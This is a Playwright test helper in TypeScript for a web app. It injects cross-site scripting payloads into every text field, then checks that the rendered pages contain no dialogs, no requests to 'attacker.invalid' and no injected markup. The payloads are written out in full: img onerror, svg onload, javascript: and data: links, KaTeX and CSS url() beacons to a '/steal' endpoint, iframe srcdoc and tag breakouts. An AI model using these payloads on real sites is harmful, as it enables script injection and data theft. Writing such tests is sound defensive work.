import { expect, type BrowserContext, type Page } from "@playwright/test";

/**
 * Hostile text for every field a model or a person writes, and the checks that
 * it stayed text: no dialog, no request to the attacker's host, no element or
 * attribute it brought into the DOM.
 */

export const ATTACKER_HOST = "attacker.invalid";
const STEAL = `http://${ATTACKER_HOST}/steal`;

/** Where an element the payload managed to create would show itself. */
const INJECTED = "xss-injected";

/** Every trick, for fields that take long text (model output, instructions, notes). */
export function longPayload(field: string): string {
  return [
    `${marker(field)} <img src="${STEAL}?img=${field}" onerror="alert('img ${field}')" class="${INJECTED}">`,
    `<script>alert('script ${field}')</script>`,
    `<svg onload="alert('svg ${field}')" class="${INJECTED}"><circle r="9"/></svg>`,
    `<a href="javascript:alert('html link ${field}')" class="${INJECTED}">html link</a>`,
    `[markdown link](javascript:alert('markdown link ${field}'))`,
    `[data link](data:text/html,<script>alert('data ${field}')</script>)`,
    `![markdown image](${STEAL}?markdown-image=${field})`,
    `[attacker link](${STEAL}?markdown-link=${field})`,
    `<${STEAL}?autolink=${field}>`,
    `$\\href{javascript:alert('katex href ${field}')}{k1}$ $\\url{${STEAL}?katex-url=${field}}$`,
    `$\\htmlData{xss=${field}}{k2}$ $\\htmlClass{${INJECTED}}{k3}$ $\\htmlId{${INJECTED}}{k4}$`,
    `$\\htmlStyle{background:url(${STEAL}?katex-style=${field})}{k5}$ $\\includegraphics{${STEAL}?katex-image=${field}}$`,
    `$\\color{red;background:url(${STEAL}?katex-color=${field})}{k6}$ $\\frac{1}{2}$`,
    `<span style="background:url(${STEAL}?css=${field})" class="${INJECTED}">styled</span>`,
    `<style>body{background:url(${STEAL}?style-tag=${field})}</style>`,
    `<iframe srcdoc="<script>parent.alert('srcdoc ${field}')</script>" class="${INJECTED}"></iframe>`,
    `<meta http-equiv="refresh" content="0;url=${STEAL}?meta=${field}">`,
    `<base href="${STEAL}/"><form action="${STEAL}"><button formaction="javascript:alert('form ${field}')">go</button></form>`,
    `</textarea></title></script><img src=x onerror=alert('breakout ${field}') class=${INJECTED}>`,
    "",
    `Final answer: \\boxed{<img src=x onerror=alert('boxed ${field}')>}`,
  ].join("\n");
}

/** For names (at most 100 characters): an image that calls home and fails, an SVG that runs on load. */
export function shortPayload(field: string): string {
  const text = `${marker(field)} <img src=//${ATTACKER_HOST}/n onerror=alert(1)><svg onload=alert(2)>`;
  if (text.length > 100) throw new Error(`the payload of ${field} is ${text.length} characters; names take 100`);
  return text;
}

/** For an uploaded file's name: what is left of a name after its last "/" or "\\" is stored, so no URL here. */
export function fileNamePayload(field: string): string {
  return `${marker(field)} <img src=x onerror=alert(1)><svg onload=alert(2)>.jsonl`;
}

/** What must be readable on the page wherever the field is shown: its marker and the start of the first tag, as text. */
export function marker(field: string): string {
  return `xss:${field}`;
}

export function visibleText(field: string): string {
  return `${marker(field)} <img src=`;
}

export interface AttackerWatch {
  /** URLs of the requests to the attacker's host (each once; all aborted). */
  requests: string[];
  dialogs: string[];
  popups: string[];
  /** Uncaught errors in the pages: a payload that crashes a page is a hole too. */
  pageErrors: string[];
}

/** Records (and blocks) every request to *.invalid, dialog and popup of the context's pages. */
export async function watchForAttacks(context: BrowserContext): Promise<AttackerWatch> {
  const watch: AttackerWatch = { requests: [], dialogs: [], popups: [], pageErrors: [] };
  await context.route(
    (url) => url.hostname.endsWith(".invalid"),
    async (route) => {
      if (!watch.requests.includes(route.request().url())) watch.requests.push(route.request().url());
      await route.abort("blockedbyclient");
    },
  );
  const onPage = (page: Page) => {
    page.on("dialog", (dialog) => {
      watch.dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss().catch(() => {});
    });
    page.on("popup", (popup) => watch.popups.push(popup.url()));
    page.on("pageerror", (error) => watch.pageErrors.push(`${page.url()}: ${error.message}`));
    // A request the route did not see (a service worker, a prefetch) still counts.
    page.on("request", (request) => {
      if (new URL(request.url()).hostname.endsWith(".invalid") && !watch.requests.includes(request.url())) watch.requests.push(request.url());
    });
  };
  context.pages().forEach(onPage);
  context.on("page", onPage);
  return watch;
}

/**
 * Everything in the document that the payloads could have put there. Links to
 * the attacker's URL written as Markdown are allowed (a click is the reader's
 * choice, and they open in a new tab without referrer or opener); nothing else
 * may carry that host, a script URL, an event handler, or the injected marker.
 */
export async function injectedMarkup(page: Page): Promise<string[]> {
  return page.evaluate(
    ({ attackerHost, injected }) => {
      const found: string[] = [];
      const urlAttributes = new Set(["href", "src", "srcset", "action", "formaction", "xlink:href", "data", "poster", "background", "ping", "content", "srcdoc"]);
      const describe = (element: Element) => `<${element.tagName.toLowerCase()}${element.id ? `#${element.id}` : ""}>`;
      for (const element of Array.from(document.querySelectorAll("*"))) {
        for (const attribute of Array.from(element.attributes)) {
          const name = attribute.name.toLowerCase();
          const value = attribute.value;
          if (name.startsWith("on")) found.push(`${describe(element)} has handler ${name}="${value.slice(0, 60)}"`);
          if (name.startsWith("data-xss")) found.push(`${describe(element)} has ${name}`);
          if (name === "srcdoc") found.push(`${describe(element)} has srcdoc`);
          if (name === "style" && /url\s*\(|expression\s*\(|javascript:/i.test(value)) found.push(`${describe(element)} has style "${value.slice(0, 80)}"`);
          if (!urlAttributes.has(name)) continue;
          if (/^\s*(javascript|vbscript|data):/i.test(value)) found.push(`${describe(element)} has ${name}="${value.slice(0, 80)}"`);
          if (value.includes(attackerHost)) {
            const rel = (element.getAttribute("rel") ?? "").split(/\s+/);
            const linkOnly = element.tagName === "A" && name === "href" && rel.includes("noopener") && rel.includes("noreferrer") && element.getAttribute("target") === "_blank";
            if (!linkOnly) found.push(`${describe(element)} has ${name}="${value.slice(0, 80)}"`);
          }
        }
      }
      const forbidden = `iframe, frame, object, embed, base, meta[http-equiv], form[action], .${injected}, #${injected}, img, picture, video, audio`;
      for (const element of Array.from(document.querySelectorAll(forbidden))) found.push(`${describe(element)} element (${element.outerHTML.slice(0, 80)})`);
      for (const style of Array.from(document.querySelectorAll("style"))) {
        if (style.textContent?.includes(attackerHost)) found.push(`<style> mentioning ${attackerHost}`);
      }
      for (const script of Array.from(document.querySelectorAll("script"))) {
        const source = script.getAttribute("src");
        if (source && new URL(source, location.href).origin !== location.origin) found.push(`<script src="${source}">`);
        const code = script.textContent ?? "";
        // Next.js's own inline scripts carry page data as escaped JSON strings; anything else mentioning alert( is the payload.
        if (/alert\(/.test(code) && !/^\s*\(?self\.__next_[a-z]/.test(code)) found.push(`<script> running "${code.slice(0, 60)}"`);
      }
      return found;
    },
    { attackerHost: ATTACKER_HOST, injected: INJECTED },
  );
}

/** The page shows every field as text and nothing else of it. */
export async function expectOnlyText(page: Page, fields: readonly string[], where: string) {
  const body = page.locator("body");
  for (const field of fields) {
    await expect.soft(body, `${where} shows ${field} as text`).toContainText(visibleText(field), { useInnerText: true });
  }
  expect.soft(await injectedMarkup(page), `${where}: markup from the payloads`).toEqual([]);
}
